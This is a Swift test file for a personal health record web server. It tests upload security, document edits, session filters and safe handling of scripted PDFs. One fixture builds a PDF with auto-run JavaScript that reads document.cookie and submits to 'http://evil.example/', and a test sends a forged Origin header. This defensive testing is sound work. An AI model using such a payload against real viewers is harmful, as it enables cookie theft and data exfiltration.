    static func multipart(boundary: String, fields: [(String, String)], files: [(name: String, bytes: [UInt8])]) -> [UInt8] {
        var body: [UInt8] = []
        for (name, value) in fields {
            body += Array("--\(boundary)\r\nContent-Disposition: form-data; name=\"\(name)\"\r\n\r\n\(value)\r\n".utf8)
        }
        for file in files {
            body += Array("--\(boundary)\r\nContent-Disposition: form-data; name=\"files\"; filename=\"\(file.name)\"\r\nContent-Type: application/octet-stream\r\n\r\n".utf8)
            body += file.bytes + Array("\r\n".utf8)
        }
        return body + Array("--\(boundary)--\r\n".utf8)
    }

    @Test func documentsAreUploadedCorrectedFilteredAndRemoved() throws {
        let cli = try CLI(label: "serve-upload")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let samples = "\(CLI.packageRoot)/Samples/documents"
        let prescription = Array(try Data(contentsOf: URL(fileURLWithPath: "\(samples)/prescription-amoxicillin.pdf")))
        let lab = Array(try Data(contentsOf: URL(fileURLWithPath: "\(samples)/lab-report-cbc-ferritin.pdf")))
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        func documents() throws -> [[String: Any]] {
            let listed = try cli.run(["doc", "list", "--json"], Self.env)
            return try #require(try JSONSerialization.jsonObject(with: Data(listed.stdout.utf8)) as? [[String: Any]], "\(listed.stderr)")
        }

        // Refused before anything is stored: no CSRF token, a foreign origin, no cookie.
        let boundary = "----phrTestBoundary7MA4YWxk"
        let type = "multipart/form-data; boundary=\(boundary)"
        let withoutToken = Self.multipart(boundary: boundary, fields: [], files: [("a.pdf", prescription)])
        #expect(try agent.post("/documents/upload", bytes: withoutToken, contentType: type, headers: ["Cookie": cookie, "Origin": origin]).status == 403)
        let withToken = Self.multipart(boundary: boundary, fields: [("csrf", csrf)],
                                       files: [("Rezept für Sam.pdf", prescription), ("notes.txt", Array("just some words\n".utf8))])
        #expect(try agent.post("/documents/upload", bytes: withToken, contentType: type,
                               headers: ["Cookie": cookie, "Origin": "http://evil.example"]).status == 403)
        #expect(try agent.post("/documents/upload", bytes: withToken, contentType: type, headers: ["Origin": origin]).status == 401)
        #expect(try documents().isEmpty)

        // The form without the page's script: multipart, and a page of outcomes that add up.
        let page = try agent.post("/documents/upload", bytes: withToken, contentType: type, headers: ["Cookie": cookie, "Origin": origin])
        #expect(page.status == 200, "\(page.body)")
        #expect(page.body.contains("1 of 2 files added"), "\(page.body)")
        #expect(page.body.contains("Rezept für Sam.pdf"))
        #expect(page.body.contains("notes.txt</strong>: Not added: not a PDF or an image"), "\(page.body)")
        var listed = try documents()
        #expect(listed.count == 1)
        let first = try #require(listed.first)
        #expect(first["file_name"] as? String == "Rezept für Sam.pdf")
        #expect(first["type"] as? String == "prescription", "\(first)")
        let firstID = try #require(first["id"] as? String)

        // The page's script: one file as the body, its name percent-encoded; JSON back.
        let json = try agent.post("/documents/upload", bytes: lab, contentType: "application/octet-stream",
                                  headers: ["Cookie": cookie, "Origin": origin, "Accept": "application/json", "X-CSRF-Token": csrf,
                                            "X-File-Name": "Blutbild%20M%C3%A4rz.pdf"])
        #expect(json.status == 200, "\(json.body)")
        let outcome = try #require((try JSONSerialization.jsonObject(with: Data(json.bodyBytes)) as? [[String: Any]])?.first)
        #expect(outcome["status"] as? String == "added", "\(outcome)")
        #expect(outcome["file"] as? String == "Blutbild März.pdf")
        let labID = try #require(outcome["id"] as? String)
        let again = try agent.post("/documents/upload", bytes: lab, contentType: "application/octet-stream",
                                   headers: ["Cookie": cookie, "Origin": origin, "Accept": "application/json", "X-CSRF-Token": csrf])
        #expect(again.body.contains("\"status\":\"duplicate\""), "\(again.body)")
        #expect(try agent.post("/documents/upload", bytes: Array("--nope".utf8), contentType: type,
                               headers: ["Cookie": cookie, "Origin": origin]).status == 400)
        #expect(try documents().count == 2)

        // Corrections from the viewer: type, date, tags; a wrong date saves nothing and says so.
        let edit = try agent.request("POST", "/documents/\(firstID)/edit",
                                     body: "csrf=\(csrf)&title=Insurance+letter&type=insurance&date=2024-02-03&tags=Insurance%2C+2024&provider=&note=",
                                     headers: ["Cookie": cookie, "Origin": origin])
        #expect(edit.status == 303)
        #expect(edit.header("location") == "/documents/\(firstID)")
        var shown = try JSONSerialization.jsonObject(with: Data(try cli.run(["doc", "show", firstID, "--json"], Self.env).stdout.utf8)) as? [String: Any]
        var document = try #require(shown?["document"] as? [String: Any])
        #expect(document["type"] as? String == "insurance")
        #expect(document["type_source"] as? String == "user")
        #expect(document["date"] as? String == "2024-02-03")
        #expect(document["tags"] as? [String] == ["2024", "insurance"])
        #expect(document["title"] as? String == "Insurance letter")
        _ = try agent.request("POST", "/documents/\(firstID)/edit", body: "csrf=\(csrf)&title=Insurance+letter&type=insurance&date=2024-02-31&tags=",
                              headers: ["Cookie": cookie, "Origin": origin])
        let viewer = try agent.request("GET", "/documents/\(firstID)", headers: ["Cookie": cookie])
        #expect(viewer.body.contains("flash-error") && viewer.body.contains("Not saved"), "\(viewer.body)")
        shown = try JSONSerialization.jsonObject(with: Data(try cli.run(["doc", "show", firstID, "--json"], Self.env).stdout.utf8)) as? [String: Any]
        document = try #require(shown?["document"] as? [String: Any])
        #expect(document["date"] as? String == "2024-02-03" && document["tags"] as? [String] == ["2024", "insurance"])
        // Confirming the guesses keeps them and marks them as the user's.
        #expect(try agent.request("POST", "/documents/\(labID)/edit", body: "csrf=\(csrf)&confirm=1",
                                  headers: ["Cookie": cookie, "Origin": origin]).status == 303)
        shown = try JSONSerialization.jsonObject(with: Data(try cli.run(["doc", "show", labID, "--json"], Self.env).stdout.utf8)) as? [String: Any]
        #expect((shown?["document"] as? [String: Any])?["type_source"] as? String == "user")

        // Filters live in the session, never in an address.
        let filter = try agent.request("POST", "/documents/filter", body: "csrf=\(csrf)&type=&tag=insurance&since=&until=",
                                       headers: ["Cookie": cookie, "Origin": origin])
        #expect(filter.header("location") == "/documents")
        var list = try agent.request("GET", "/documents", headers: ["Cookie": cookie])
        #expect(list.body.contains("/documents/\(firstID)\"") && !list.body.contains("/documents/\(labID)\""))
        _ = try agent.request("POST", "/documents/filter", body: "csrf=\(csrf)&since=2025-01-01", headers: ["Cookie": cookie, "Origin": origin])
        list = try agent.request("GET", "/documents", headers: ["Cookie": cookie])
        #expect(!list.body.contains("/documents/\(firstID)\""))
        _ = try agent.request("POST", "/documents/filter", body: "csrf=\(csrf)&clear=1", headers: ["Cookie": cookie, "Origin": origin])
        list = try agent.request("GET", "/documents", headers: ["Cookie": cookie])
        #expect(list.body.contains("/documents/\(firstID)\"") && list.body.contains("/documents/\(labID)\""))

        // Removal asks first (a GET changes nothing), then removes on a POST.
        let ask = try agent.request("GET", "/documents/\(firstID)/remove", headers: ["Cookie": cookie])
        #expect(ask.status == 200 && ask.body.contains("Remove this document?"))
        #expect(try documents().count == 2)
        let removed = try agent.request("POST", "/documents/\(firstID)/remove", body: "csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        #expect(removed.status == 303)
        listed = try documents()
        #expect(listed.count == 1 && listed.first?["id"] as? String == labID)
        #expect(try agent.request("GET", "/documents/\(firstID)", headers: ["Cookie": cookie]).status == 404)
        #expect(try cli.run(["check"], Self.env).status == 0, "the vault checks clean after uploads and a removal")
    }

    /// A one-page PDF that runs JavaScript when a PDF viewer opens it (/OpenAction), with a line
    /// of text: built here with exact xref offsets.
    static func pdfWithJavaScript(text: String) -> [UInt8] {
        let stream = "BT /F1 24 Tf 72 700 Td (\(text)) Tj ET"
        let objects = [
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>",
            "<< /Length \(stream.utf8.count) >>\nstream\n\(stream)\nendstream",
            "<< /S /JavaScript /JS (app.alert\\(document.cookie\\); this.submitForm\\('http://evil.example/'\\);) >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
        return HandWrittenPDF.bytes(objects: objects, version: "1.7")
    }

    @Test func aPDFWithJavaScriptIsShownAsAPictureAndNeverAsAPDF() throws {
        let cli = try CLI(label: "serve-js")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let path = cli.directory + "/Письмо врача.pdf"
        #expect(FileManager.default.createFile(atPath: path, contents: Data(Self.pdfWithJavaScript(text: "Scripted letter"))))
        let add = try cli.run(["doc", "add", path, "--json"], Self.env)
        #expect(add.status == 0, "\(add.stderr)")
        let docID = try #require(add.stdout.range(of: #""id" *: *"[0-9a-z]{6}""#, options: .regularExpression)
            .map { String(add.stdout[$0].suffix(7).dropLast()) })
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, _) = try agent.signIn()
        let viewer = try agent.request("GET", "/documents/\(docID)", headers: ["Cookie": cookie])
        #expect(viewer.status == 200)
        #expect(viewer.body.contains("Scripted letter"))
        #expect(!viewer.body.contains("<embed") && !viewer.body.contains("<object") && !viewer.body.contains("<iframe"))
        #expect(!viewer.body.contains("/original\"><img") && viewer.body.contains("/pages/1?size=full"))
        let image = try agent.request("GET", "/documents/\(docID)/pages/1?size=full", headers: ["Cookie": cookie])
        #expect(image.header("content-type") == "image/png")
        #expect(Array(image.bodyBytes.prefix(4)) == [0x89, 0x50, 0x4E, 0x47])
        // The original only ever leaves as an inert attachment.
        let original = try agent.request("GET", "/documents/\(docID)/original", headers: ["Cookie": cookie])
        #expect(original.header("content-type") == "application/octet-stream")
        #expect(original.header("content-disposition")?.hasPrefix("attachment") == true)
        #expect(original.header("content-security-policy")?.hasPrefix("sandbox") == true)
        // A name in another script keeps its letters (RFC 8187), with an ASCII stand-in.
        #expect(original.header("content-disposition") == "attachment; filename=\"______ _____.pdf\"; filename*=UTF-8''"
            + "%D0%9F%D0%B8%D1%81%D1%8C%D0%BC%D0%BE%20%D0%B2%D1%80%D0%B0%D1%87%D0%B0.pdf")
    }
}

extension CLI {
    /// A private runtime directory for agents started by this test (XDG_RUNTIME_DIR).
    var runtimeDirectory: String {
        let path = directory + "/run"
        mkdir(path, 0o700)
        return path
    }
}

/// The web UI in a real Chromium (Tests/Browser/serve_browser.py, Selenium over Debian's
/// chromium-driver): sign in through the launch file, every screen, search as you type, a
/// document's pages, a dose, a profile switch, text size and dark theme, the print style; then
/// the canary put in a record and a document is looked for in the browser's profile. Screenshots
/// of each screen go to .build/screenshots/serve for review.
@Suite(.serialized) struct ServeBrowserTests {
    /// The Python with Selenium and axe-core that `make deps` sets up.
    static let python = "\(CLI.packageRoot)/.build/venv-browser/bin/python3"
    static let browserReady = ["/usr/bin/chromium", "/usr/bin/chromedriver", python].allSatisfy { FileManager.default.isExecutableFile(atPath: $0) }

    @Test(.enabled(if: browserReady, "needs chromium, chromium-driver, python3-selenium and axe-core in .build/venv-browser (make deps sets them up)"))
    func theUIWorksInARealBrowserAndLeavesNothingBehind() throws {
        let cli = try CLI(label: "serve-browser")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: ServeTests.passphrase)
        let canary = "Zyxqw" + UUID().uuidString.prefix(8).lowercased().filter(\.isLetter) + "canary"
        let env = ServeTests.env
        #expect(try cli.run(["id", "set", "--name", "Alex Example"], env).status == 0)
        #expect(try cli.run(["med", "add", "\(canary) tablets", "--dose", "5 mg", "--every", "8h"], env).status == 0)
        #expect(try cli.run(["allergy", "add", "Penicillin", "--severity", "severe"], env).status == 0)
        // Two ferritin results, the first below its range; the browser adds a third.
        #expect(try cli.run(["lab", "add", "ferritin", "25", "ng/mL", "--range", "30-400", "--date", "2025-06-01"], env).status == 0)
        #expect(try cli.run(["lab", "add", "ferritin", "35", "ng/mL", "--range", "30-400", "--date", "2025-09-01"], env).status == 0)
        // A document whose text holds the canary: the emergency card, drawn by phr itself.
        let card = cli.directory + "/card.pdf"
        #expect(try cli.run(["emergency", "--pdf", card], env).status == 0)
        #expect(try cli.run(["doc", "add", card, "\(CLI.packageRoot)/Samples/documents/lab-report-cbc-ferritin.pdf"], env).status == 0)
        try FileManager.default.removeItem(atPath: card)
        #expect(try cli.run(["profile", "add", "Sam", "--relation", "child"], env).status == 0)

        let agent = try ServeTests.Agent(cli)
        defer { agent.stop() }
        let ready = try JSONSerialization.data(withJSONObject: ["url": agent.url, "launch_file": agent.launchFile])
        let shots = "\(CLI.packageRoot)/.build/screenshots/serve"
        // A C-CDA made by the project's generator, imported from the health record's screen.
        let ccd = cli.directory + "/ccd.xml"
        try CCDASampleDocument().xml.write(toFile: ccd, atomically: true, encoding: .utf8)
        let (status, said) = try cli.runPython(Self.python, [
            "\(CLI.packageRoot)/Tests/Browser/serve_browser.py", String(decoding: ready, as: UTF8.self), shots,
            cli.directory + "/chromium-profile", canary, "\(CLI.packageRoot)/Samples/documents/prescription-amoxicillin.pdf", ccd])
        #expect(status == 0, "\(said)")
        #expect(said.contains("ok   the canary is nowhere in the browser profile"), "\(said)")
    }
}
